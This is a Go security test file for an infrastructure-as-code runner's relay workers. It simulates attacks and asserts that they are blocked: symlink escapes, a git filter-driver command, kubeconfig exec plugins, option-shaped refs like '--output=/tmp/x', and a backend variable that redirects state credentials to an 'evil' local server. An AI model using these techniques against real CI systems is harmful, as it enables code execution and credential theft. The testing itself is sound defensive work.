package server

import (
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/switchtender/switchtender/server/relay"
	"github.com/switchtender/switchtender/store"
)

// attack13cEvidence is a scan's evidence as a raw worker sends it.
func attack13cEvidence(findings ...store.Finding) *store.Scan {
	return &store.Scan{Digest: "sha256:" + strings.Repeat("1", 64), Modules: 1, Files: 1, Findings: findings}
}

// attack13cTake launches args on pool eu and has raw take the run; it
// returns the run and its job.
func attack13cTake(t *testing.T, h *harness, raw *rawWorker, args ...string) (string, relay.Msg) {
	t.Helper()
	raw.send(relay.Msg{Type: relay.MsgPoll})
	id := runIDOf(t, h.mustSSH("alice", append(append([]string{"launch"}, args...), "--json")...))
	if m := raw.recv(); m.Type != relay.MsgOffer || m.Run != id {
		t.Fatalf("offer %+v, want run %s", m, id)
	}
	raw.send(relay.Msg{Type: relay.MsgTake, Run: id})
	job := raw.recv()
	if job.Type != relay.MsgJob || job.Run != id {
		t.Fatalf("job %+v", job)
	}
	return id, job
}

// Promise (relay: the control node keeps the decisions, and a relayed
// run's private files live in the run's private directory on the worker;
// the control node holds a plan in clear only in memory). Break: when the
// control node ends a relayed run on a worker's scan evidence (scan_stop:
// held or refused), relayHub.scanned builds an execution with no private
// directory and h.endWith calls execution.end, which wipes
// filepath.Join(x.private, planFileName) = "plan.tfplan" relative to the
// control node's current directory: whatever file of that name the
// operator has there (a plan of their own) is overwritten and removed.
// (relay_plan.go's planned() has the same execution for gated plans.)
func TestAttack13cScanHoldWipesPlanFileInControlNodeCwd(t *testing.T) {
	h, keys, _ := relayHarness(t, relayScanConfig)
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	cwd := t.TempDir()
	t.Chdir(cwd)
	mine := filepath.Join(cwd, planFileName)
	writeFile(t, mine, "the operator's own saved plan\n")

	id, job := attack13cTake(t, h, raw, "rs-modvar", "--dry-run")
	if job.ScanWhy != scanForExemption {
		t.Fatalf("job scan %q", job.ScanWhy)
	}
	raw.send(relay.Msg{Type: relay.MsgScanned, Run: id, Token: job.Token, Scan: attack13cEvidence(store.Finding{
		Address: "data.external.x", File: "infra/scan/modvar/main.tf", Line: 1, Reason: "runs a program"})})
	if m := raw.recv(); m.Type != relay.MsgScanStop {
		t.Fatalf("a finding was answered %+v", m)
	}
	h.waitStatus(id, StatusAwaitingApproval, StatusFailed)
	if b, err := os.ReadFile(mine); err != nil || string(b) != "the operator's own saved plan\n" {
		t.Fatalf("holding a relayed run on its scan wiped %s in the control node's current directory (%v, now %q)", planFileName, err, b)
	}
}

// Promise (issue 13: "The worker reports the commit of its checkout that it
// ran"; a pull request's plan records the ref and the commit it planned,
// and rerun plans its ref again). Break: on a worker, a pull request's plan
// that ends before its export finished (a branch that changes the
// backend, a ref the worker's checkout lacks) returns a result whose Commit
// is the worker's checkout HEAD (runJob: res.Commit = x.commit(ctx), and
// x.pr is still nil), and relayHub.result overwrites the run's Commit with
// it: the run no longer names its ref, show names a commit that was never
// the pull request's, and rerun (which looks for Commit.Ref) plans the
// checkout instead of the pull request.
func TestAttack13cPullRequestEndedBeforeExportRecordsWorkerHead(t *testing.T) {
	h, keys, identity := relayHarness(t, relayScanConfig)
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	checkout := w1.Projects["infra"].Path
	git := gitIn(t, checkout)
	git("init", "-q", "-b", "main")
	git("add", "-A")
	git("commit", "-q", "-m", "main")
	git("checkout", "-q", "-b", "be")
	writeFile(t, filepath.Join(checkout, "infra/data/backend.tf"), "terraform {\n  backend \"local\" {\n    path = \"/tmp/attack13c-elsewhere.tfstate\"\n  }\n}\n")
	git("add", "-A")
	git("commit", "-q", "-m", "another backend")
	git("checkout", "-q", "main")
	head, be := git("rev-parse", "HEAD"), git("rev-parse", "be")
	startWorker(t, w1)

	v := h.launchWait("alice", "rpr", "--dry-run", "--ref", "be")
	if statusOf(v.Run) != StatusRefused || !strings.Contains(v.Message, "backend") {
		t.Fatalf("a branch changing the backend: %s: %s", v.Status, v.Message)
	}
	if v.Commit == nil || v.Commit.Ref != "be" || v.Commit.SHA != be {
		t.Errorf("the refused pull request's plan records commit %+v, not ref be at %s (the worker's HEAD is %s)", v.Commit, be, head)
	}
	v = h.launchWait("alice", "rpr", "--dry-run", "--ref", "no-such-branch")
	if statusOf(v.Run) != StatusFailed {
		t.Fatalf("a ref the worker lacks: %s: %s", v.Status, v.Message)
	}
	if v.Commit == nil || v.Commit.Ref != "no-such-branch" || v.Commit.SHA == head {
		t.Errorf("a pull request's plan of a ref nobody holds records commit %+v (the worker's HEAD is %s)", v.Commit, head)
	}
	out, _, _ := h.ssh("alice", "rerun", v.ID, "--wait", "--json")
	if strings.Contains(out, `"status": "succeeded"`) {
		t.Errorf("rerunning the pull request's plan of no-such-branch planned the worker's checkout instead:\n%.600s", out)
	}
}

// Promise (spec: a dry run behind exclude_dry_run, and every pull
// request's plan, is scanned before it plans; the control node decides on
// the evidence; "the control node still checks what it can"). Break: a
// worker that takes a scanned job and reports a result without ever
// sending its scan gets it recorded: the run ends succeeded with no scan
// evidence and no pass of the rules (relayHub.result does not look at
// l.scanWhy / l.scanDone), so a dry run the rule exempts only after a clean
// scan, and a pull request's plan, "succeed" unscanned.
func TestAttack13cScannedJobResultWithoutScanAccepted(t *testing.T) {
	h, keys, _ := relayHarness(t, relayScanConfig)
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	for _, args := range [][]string{{"rs-modvar", "--dry-run"}, {"rpr", "--dry-run", "--ref", "main"}} {
		id, job := attack13cTake(t, h, raw, args...)
		if job.ScanWhy == "" {
			t.Fatalf("%v: the job is not scanned", args)
		}
		raw.send(relay.Msg{Type: relay.MsgStep, Run: id, Token: job.Token, Step: "plan", Exit: 0})
		raw.send(relay.Msg{Type: relay.MsgResult, Run: id, Token: job.Token, Status: StatusSucceeded, Exit: 0,
			Commit: &store.Commit{Ref: "main", SHA: strings.Repeat("a", 40)}})
		h.waitStatus(id, StatusSucceeded, StatusFailed, StatusRefused)
		r, _ := h.srv.db.GetRun(id)
		if Status(r.Status) == StatusSucceeded {
			t.Errorf("%v: a scanned job's result without any scan was accepted: %s (%s), scan %+v, approvals %+v", args, r.Status, r.Message, r.Scan, r.Approvals)
		}
	}
}

// Held: a worker that sends its scan and then goes silent while the
// control node's verdict is on its way loses its lease once: the run
// fails within the lease timeout, is not re-run, and a scan, result or
// scan_pass-like message from it afterwards is rejected and changes
// nothing.
func TestAttack13cWorkerSilentAfterScanHeld(t *testing.T) {
	h, keys, _ := relayHarness(t, relayScanConfig)
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	id, job := attack13cTake(t, h, raw, "rs-clean", "--dry-run")
	raw.send(relay.Msg{Type: relay.MsgScanPass, Run: id, Token: job.Token, Released: "bob"})
	if m := raw.recv(); m.Type != relay.MsgReject {
		t.Fatalf("a worker's own scan_pass was answered %+v", m)
	}
	if r, _ := h.srv.db.GetRun(id); r.Scan != nil || len(r.Approvals) != 0 || Status(r.Status) != StatusRunning {
		t.Fatalf("a worker's own scan_pass changed the run: %s, scan %+v, approvals %+v", r.Status, r.Scan, r.Approvals)
	}
	raw.send(relay.Msg{Type: relay.MsgScanned, Run: id, Token: job.Token, Scan: attack13cEvidence()})
	if m := raw.recv(); m.Type != relay.MsgScanPass {
		t.Fatalf("clean evidence was answered %+v", m)
	}
	started := time.Now()
	h.waitStatus(id, StatusFailed, StatusSucceeded, StatusCancelled)
	r, _ := h.srv.db.GetRun(id)
	if Status(r.Status) != StatusFailed || time.Since(started) > 8*time.Second || !strings.Contains(r.Message, "stopped heartbeating") {
		t.Fatalf("a worker silent after its scan: %s after %s: %s", r.Status, time.Since(started), r.Message)
	}
	if m := raw.recv(); m.Type != relay.MsgReject {
		t.Fatalf("the lost lease was answered %+v", m)
	}
	for _, m := range []relay.Msg{
		{Type: relay.MsgScanned, Run: id, Token: job.Token, Scan: attack13cEvidence()},
		{Type: relay.MsgScanPass, Run: id, Token: job.Token, Released: "bob"},
		{Type: relay.MsgResult, Run: id, Token: job.Token, Status: StatusSucceeded},
	} {
		raw.send(m)
		if got := raw.recv(); got.Type != relay.MsgReject {
			t.Errorf("%s after the lease was lost: answered %+v", m.Type, got)
		}
	}
	if r2, _ := h.srv.db.GetRun(id); r2.Status != r.Status || r2.Message != r.Message || len(r2.Approvals) != len(r.Approvals) {
		t.Errorf("late messages changed the run: %s %q", r2.Status, r2.Message)
	}
}

// attack13cBigConfig is a rule exempting dry runs of rs-big behind the
// scan, and rs-big on pool eu.
const attack13cBigConfig = `
rule "review13c" {
  templates        = ["rs-big"]
  require_approval = true
  exclude_dry_run  = true
  approvers        = ["bob"]
}
template "rs-big" {
  project = "infra"
  command = "infra/big"
  queue   = "eu"
}
`

// writeBigModule writes infra/big into checkout: a root calling the local
// module ./m of n files, so the scan after tofu get takes a while.
func writeBigModule(t *testing.T, checkout string, n int) {
	t.Helper()
	dir := filepath.Join(checkout, "infra/big")
	if err := os.MkdirAll(filepath.Join(dir, "m"), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(dir, "main.tf"), "module \"m\" {\n  source = \"./m\"\n}\n")
	for i := range n {
		writeFile(t, filepath.Join(dir, "m", "r"+strconv.Itoa(i)+".tf"),
			"resource \"terraform_data\" \"r"+strconv.Itoa(i)+"\" {\n  input = \"value number "+strconv.Itoa(i)+"\"\n}\n")
	}
}

// Promise (issue 13; brief: a cancel while the worker waits for the scan's
// verdict ends the run once, with no stray "result rejected"). Break: a
// cancel that reaches the worker after its tofu get, while it reads the
// modules (scanCopyOf does not look at the context once get is done),
// does not stop it from sending its scan: awaitScanVerdict sends the
// scanned message on a cancelled context and returns ctx.Err() at once, so
// runJob reports a "cancelled" result. The control node meanwhile decided
// on the scan (relayHub.scanned: CancelRequested -> scan_stop, run ended
// "cancelled after the scan"), so that result arrives for an ended lease
// and is audited as "result rejected", the sign of a worker that lost its
// lease, for a worker that did nothing wrong.
func TestAttack13cCancelDuringWorkerScanLeavesResultRejected(t *testing.T) {
	h, keys, identity := relayHarness(t, relayScanConfig+attack13cBigConfig)
	w1 := scanWorkerCfg(t, h, "w1", keys["w1"], identity)
	writeBigModule(t, w1.Projects["infra"].Path, 4000)
	startWorker(t, w1)
	var id string
	for attempt := range 3 {
		id = runIDOf(t, h.mustSSH("alice", "launch", "rs-big", "--dry-run", "--json"))
		deadline := time.Now().Add(2 * time.Minute)
		for {
			r, _ := h.srv.db.GetRun(id)
			if len(r.Steps) > 0 || Status(r.Status) != StatusRunning && Status(r.Status) != StatusQueued || time.Now().After(deadline) {
				break
			}
			time.Sleep(2 * time.Millisecond)
		}
		if _, err := h.srv.Cancel(context.Background(), h.identity("alice"), id); err != nil {
			t.Logf("attempt %d: cancel: %v", attempt, err)
		}
		h.waitStatus(id, StatusCancelled, StatusFailed, StatusSucceeded, StatusAwaitingApproval)
		time.Sleep(time.Second) // the worker's result, if any
		r, _ := h.srv.db.GetRun(id)
		audit := h.mustSSH("bob", "audit", "--run", id)
		t.Logf("attempt %d: %s: %s; steps %v", attempt, r.Status, r.Message, stepNames(runView{Run: r}))
		if strings.Contains(audit, "result rejected") {
			t.Fatalf("a cancel during the worker's scan left a rejected result in the audit trail (%s: %s):\n%s", r.Status, r.Message, audit)
		}
		if Status(r.Status) != StatusCancelled {
			t.Fatalf("the cancelled run ended %s: %s", r.Status, r.Message)
		}
	}
}

// Held: the control node's pull-request attacks, tried against a worker's
// export from its own checkout (server/attack12_test.go,
// attack12b_test.go): a committed .terraform link out of the tree with a
// module call (tofu get would write through it), a committed lock-info
// link to a file outside, a .gitattributes filter driver the worker's
// checkout defines, a link in the branch that leads the read-only state
// copy back into the checkout's state directory, a kubeconfig exec plugin
// read by terraform_remote_state, and refs git could read as options.
// None writes outside the run's private directory, runs a program, or
// touches the worker's checkout.
func TestAttack13cPullRequestAttacksOnTheWorkerHeld(t *testing.T) {
	h, keys, identity := relayHarness(t, relayScanConfig)
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	checkout := w1.Projects["infra"].Path
	wd := filepath.Join(checkout, "infra/data")
	dir := t.TempDir()
	outside, victim := filepath.Join(dir, "outside"), filepath.Join(dir, "victim.tfstate")
	smudged, kubeRan := filepath.Join(dir, "smudge-ran"), filepath.Join(dir, "kube-exec-ran")
	if err := os.MkdirAll(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, victim, "the real state\n")
	git := gitIn(t, checkout)
	git("init", "-q", "-b", "main")
	writeFile(t, filepath.Join(wd, "backend.tf"), "terraform {\n  backend \"local\" {\n    path = \"../state/data.tfstate\"\n  }\n}\n")
	writeFile(t, filepath.Join(checkout, ".gitignore"), "infra/state/\n")
	git("add", "-A")
	git("commit", "-q", "-m", "main")
	branch := func(name string, files map[string]string, links map[string]string) {
		git("checkout", "-q", "-b", name, "main")
		for p, body := range files {
			if err := os.MkdirAll(filepath.Dir(filepath.Join(checkout, p)), 0o755); err != nil {
				t.Fatal(err)
			}
			writeFile(t, filepath.Join(checkout, p), body)
		}
		for p, target := range links {
			if err := os.Symlink(target, filepath.Join(checkout, p)); err != nil {
				t.Fatal(err)
			}
		}
		git("add", "-A", "-f")
		git("commit", "-q", "-m", name)
		git("checkout", "-q", "main")
		for p := range links {
			os.Remove(filepath.Join(checkout, p))
		}
	}
	branch("link", map[string]string{"infra/data/m/main.tf": "resource \"terraform_data\" \"m\" {}\n",
		"infra/data/mod.tf": "module \"m\" {\n  source = \"./m\"\n}\n"}, map[string]string{"infra/data/.terraform": outside})
	branch("lockinfo", nil, map[string]string{"infra/data/.terraform.tfstate.lock.info": victim})
	branch("attrs", map[string]string{".gitattributes": "*.tf filter=lfs\n", "infra/data/extra.tf": "# nothing\n"}, nil)
	branch("rmstate", nil, map[string]string{"infra/state": filepath.Join(checkout, "infra/state")})
	branch("kube", map[string]string{"infra/data/kc.yaml": kubeconfigExec(kubeRan), "infra/data/remote.tf": remoteStateKube}, nil)
	git("config", "filter.lfs.smudge", "touch "+smudged+"; cat")
	state := filepath.Join(checkout, "infra/state/data.tfstate")
	if err := os.MkdirAll(filepath.Dir(state), 0o755); err != nil {
		t.Fatal(err)
	}
	writeFile(t, state, `{"version":4,"terraform_version":"1.8.0","serial":1,"lineage":"attack13c","outputs":{},"resources":[]}`+"\n")
	before, head := git("status", "--porcelain", "--ignored"), git("rev-parse", "HEAD")
	startWorker(t, w1)

	for _, ref := range []string{"link", "lockinfo", "attrs", "rmstate", "kube"} {
		v := h.launchWait("alice", "rpr", "--dry-run", "--ref", ref)
		t.Logf("%s: %s: %s; steps %v", ref, v.Status, v.Message, stepNames(v))
	}
	for _, ref := range []string{"-x", "--output=/tmp/x", "main:..", "main\nx"} {
		if _, _, code := h.ssh("alice", "launch", "rpr", "--dry-run", "--ref", ref); code == 0 {
			if ref != "main:.." {
				t.Errorf("ref %q was queued", ref)
			}
		}
	}
	var written []string
	filepath.WalkDir(outside, func(p string, d os.DirEntry, err error) error {
		if err == nil && p != outside {
			written = append(written, p)
		}
		return nil
	})
	if len(written) > 0 {
		t.Errorf("a pull request's plan wrote outside its private directory: %v", written)
	}
	if b, _ := os.ReadFile(victim); string(b) != "the real state\n" {
		t.Errorf("a committed lock-info link overwrote a file outside: %q", b)
	}
	for what, marker := range map[string]string{"a filter driver": smudged, "a kubeconfig exec plugin": kubeRan} {
		if _, err := os.Stat(marker); err == nil {
			t.Errorf("a pull request's plan on the worker ran %s", what)
		}
	}
	if _, err := os.Stat(state); err != nil {
		t.Errorf("the worker's checkout state is gone: %v", err)
	}
	if after := git("status", "--porcelain", "--ignored"); after != before || git("rev-parse", "HEAD") != head {
		t.Errorf("the worker's checkout changed:\nbefore %q\nafter  %q", before, after)
	}
}

// attack13cSecretConfig exempts dry runs of three templates on pool eu
// behind the scan: one with a TF_ENCRYPTION credential whose passphrase
// the scan cannot parse, one whose credential sets TF_DATA_DIR, and one
// whose sensitive survey answer names a module directory.
const attack13cSecretConfig = `
credential "enc13c" {
  env = { TF_ENCRYPTION = "{\"key_provider\": {\"pbkdf2\": {\"k\": {\"passphrase\": TroubadorHorseBatteryStaple13c}}}}" }
}
credential "dd13c" {
  env = { TF_DATA_DIR = ".tfdata" }
}
rule "review13c2" {
  templates        = ["enc13c", "dd13c", "secsrc13c"]
  require_approval = true
  exclude_dry_run  = true
  approvers        = ["bob"]
}
template "enc13c" {
  project     = "infra"
  command     = "infra/scan/clean"
  queue       = "eu"
  credentials = ["enc13c"]
}
template "dd13c" {
  project     = "infra"
  command     = "infra/dd"
  queue       = "eu"
  credentials = ["dd13c"]
}
template "secsrc13c" {
  project = "infra"
  command = "infra/secsrc"
  queue   = "eu"
  survey "src" {
    type      = "string"
    sensitive = true
  }
}
`

// Held: on a worker, a TF_ENCRYPTION passphrase the scan cannot parse and
// a sensitive answer that names a module directory reach no log, finding,
// show or audit entry; a credential's TF_DATA_DIR refuses the scanned run
// before anything plans, so a manifest left in the checkout is never
// trusted; a configuration file that is a FIFO is refused before any plan.
func TestAttack13cWorkerScanSecretsAndSettingsHeld(t *testing.T) {
	h, keys, identity := relayHarness(t, relayScanConfig+attack13cSecretConfig)
	w1 := scanWorkerCfg(t, h, "w1", keys["w1"], identity)
	checkout := w1.Projects["infra"].Path
	const answer = "hunter2-module-XYZZY13c"
	for name, body := range map[string]string{
		"infra/dd/main.tf":                      "module \"m\" {\n  source = \"./mod\"\n}\n",
		"infra/dd/mod/main.tf":                  "resource \"terraform_data\" \"m\" {\n  input = \"scanned\"\n}\n",
		"infra/dd/other/main.tf":                "resource \"terraform_data\" \"m\" {\n  input = \"never-scanned\"\n}\n",
		"infra/dd/.tfdata/modules/modules.json": `{"Modules":[{"Key":"","Source":"","Dir":"."},{"Key":"m","Source":"./mod","Dir":"other"}]}`,
		"infra/secsrc/main.tf":                  "variable \"src\" {\n  type = string\n}\n\nmodule \"m\" {\n  source = var.src\n}\n",
		"infra/secsrc/" + answer + "/main.tf":   "resource \"terraform_data\" \"m\" {}\n",
	} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(checkout, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(checkout, name), body)
	}
	startWorker(t, w1)

	for _, c := range []struct {
		args   []string
		secret string
	}{
		{[]string{"enc13c", "--dry-run"}, "TroubadorHorseBatteryStaple13c"},
		{[]string{"secsrc13c", "--dry-run", "--var", "src=./" + answer}, answer},
	} {
		v := h.launchWait("alice", c.args...)
		t.Logf("%v: %s: %s", c.args, v.Status, v.Message)
		for what, text := range map[string]string{
			"show":      h.mustSSH("bob", "show", v.ID),
			"show json": h.mustSSH("bob", "show", v.ID, "--json"),
			"audit":     h.mustSSH("bob", "audit", "--json"),
			"log":       h.mustSSH("bob", "log", v.ID),
		} {
			if strings.Contains(text, c.secret) {
				t.Errorf("%v: the secret shows in %s (%s):\n%s", c.args, what, v.Status, text)
			}
		}
	}
	v := h.launchWait("alice", "dd13c", "--dry-run")
	if log := h.mustSSH("bob", "log", v.ID); strings.Contains(log, "never-scanned") || statusOf(v.Run) == StatusSucceeded {
		t.Errorf("TF_DATA_DIR in a credential on a worker: %s: %s\n%s", v.Status, v.Message, log)
	}

	fifo := filepath.Join(checkout, "infra/scan/clean/extra.tf")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skip("mkfifo:", err)
	}
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		for {
			select {
			case <-stop:
				return
			default:
			}
			f, err := os.OpenFile(fifo, os.O_WRONLY|syscall.O_NONBLOCK, 0)
			if err != nil {
				time.Sleep(5 * time.Millisecond)
				continue
			}
			f.Write([]byte("resource \"terraform_data\" \"from_fifo\" {\n  input = \"never scanned\"\n}\n"))
			f.Close()
			time.Sleep(20 * time.Millisecond)
		}
	}()
	v = h.launchWait("alice", "rs-clean", "--dry-run")
	if log := h.mustSSH("bob", "log", v.ID); strings.Contains(log, "$ tofu plan") || strings.Contains(log, "from_fifo") {
		t.Errorf("a plan started over a FIFO configuration file on the worker: %s: %s\n%s", v.Status, v.Message, log)
	}
}

// Promise (brief: a worker cannot flood the control node's decisions;
// issue 13 bounds what crosses the relay). Break: a worker's scan
// evidence is taken whole. One scanned message may be as long as
// relay.MaxLine (~29 MiB, sized for a sealed plan), and relayHub.evidence
// copies every finding into the run (scan and proposal), the log, the
// audit trail and the run's message (decideScan: scanSummary and
// findingsPhrase), with no bound on their number or length: 120,000
// findings make a 22 MB message, a 44 MB audit trail for the run and a
// 45 MB `show`. (A branch with that many data sources does the same
// through an honest worker.)
func TestAttack13cHugeFindingsListBounded(t *testing.T) {
	h, keys, _ := relayHarness(t, relayScanConfig)
	raw, _ := dialRaw(t, h, keys["w2"], relay.Msg{Name: "w2", Pool: "eu"})
	id, job := attack13cTake(t, h, raw, "rs-modvar", "--dry-run")
	const n = 120000
	fs := make([]store.Finding, n)
	for i := range fs {
		fs[i] = store.Finding{Address: "data.external.x" + strconv.Itoa(i), File: "infra/scan/modvar/main.tf", Line: i + 1,
			Reason: "runs the program it names " + strings.Repeat("x", 100)}
	}
	started := time.Now()
	raw.send(relay.Msg{Type: relay.MsgScanned, Run: id, Token: job.Token, Scan: attack13cEvidence(fs...)})
	m := raw.recv()
	took := time.Since(started)
	h.waitStatus(id, StatusAwaitingApproval, StatusFailed, StatusRefused)
	r, _ := h.srv.db.GetRun(id)
	t0 := time.Now()
	list := h.mustSSH("alice", "runs")
	audit := h.mustSSH("bob", "audit", "--run", id)
	show := h.mustSSH("bob", "show", id)
	t.Logf("answered %s in %s; run %s, message %d bytes, findings %d; runs %d bytes, audit %d bytes, show %d bytes in %s",
		m.Type, took, r.Status, len(r.Message), len(r.Scan.Findings), len(list), len(audit), len(show), time.Since(t0))
	if len(r.Message) > 1<<20 || len(audit) > 1<<20 || len(show) > 1<<20 {
		t.Errorf("one worker message put %d findings (%d bytes of message, %d of audit, %d of show) into the run's record", len(r.Scan.Findings), len(r.Message), len(audit), len(show))
	}
}

// attack13cHTTPStateConfig is a pull-request template on pool eu whose
// credential authenticates an http state backend.
const attack13cHTTPStateConfig = `
credential "state13c" {
  env = { TF_HTTP_USERNAME = "switchtender", TF_HTTP_PASSWORD = "state-password-13c" }
}
template "rprhttp" {
  project     = "infra"
  command     = "infra/data"
  queue       = "eu"
  credentials = ["state13c"]
}
`

// attack13cStateServer records each request's method, path and basic auth.
func attack13cStateServer(t *testing.T) (*httptest.Server, func() []string) {
	var mu sync.Mutex
	var got []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u, p, _ := r.BasicAuth()
		mu.Lock()
		got = append(got, r.Method+" "+r.URL.Path+" auth="+u+":"+p)
		mu.Unlock()
		if r.Method == http.MethodGet {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		w.WriteHeader(http.StatusOK)
	}))
	t.Cleanup(srv.Close)
	return srv, func() []string { mu.Lock(); defer mu.Unlock(); return append([]string{}, got...) }
}

// Promise (spec and README "Pull-request plans": the plan runs against the
// state the checkout's runs use, read as they read it, with their
// credentials; a branch that changes the backend is refused rather than
// planned, since "a backend ... the branch chose would get the run's
// credentials"). Break: sameBackend (server/pullrequest.go) compares the
// text of the backend blocks only. OpenTofu (1.8 and later) evaluates
// variables and locals in a backend block, so where the checkout's
// backend reads address = var.state_address, a branch that changes only
// the variable's default (or adds a .tfvars) points the backend at a host
// it names: the backend text is unchanged, the scan finds nothing, and
// the worker's init and plan send the run's TF_HTTP_USERNAME and
// TF_HTTP_PASSWORD to that host.
func TestAttack13cPullRequestBackendVariableRedirectsState(t *testing.T) {
	legit, _ := attack13cStateServer(t)
	evil, seen := attack13cStateServer(t)
	h, keys, identity := relayHarness(t, relayScanConfig+attack13cHTTPStateConfig)
	w1 := relayWorkerCfg(t, h, "w1", "eu", keys["w1"], identity)
	checkout := w1.Projects["infra"].Path
	wd := filepath.Join(checkout, "infra/data")
	variable := func(addr string) string {
		return "variable \"state_address\" {\n  type    = string\n  default = \"" + addr + "\"\n}\n"
	}
	git := gitIn(t, checkout)
	git("init", "-q", "-b", "main")
	writeFile(t, filepath.Join(wd, "backend.tf"), "terraform {\n  backend \"http\" {\n    address = var.state_address\n  }\n}\n")
	writeFile(t, filepath.Join(wd, "state_address.tf"), variable(legit.URL+"/state"))
	git("add", "-A")
	git("commit", "-q", "-m", "main")
	git("checkout", "-q", "-b", "redirect")
	writeFile(t, filepath.Join(wd, "state_address.tf"), variable(evil.URL+"/state"))
	git("add", "-A")
	git("commit", "-q", "-m", "the same backend block, another host")
	git("checkout", "-q", "main")
	startWorker(t, w1)

	v := h.launchWait("alice", "rprhttp", "--dry-run", "--ref", "redirect")
	if got := seen(); len(got) > 0 {
		t.Fatalf("a pull request's plan on the worker sent the run's state credentials to the branch's host (%s: %s; steps %v): %v",
			v.Status, v.Message, stepNames(v), got)
	}
	t.Logf("%s: %s", v.Status, v.Message)
}
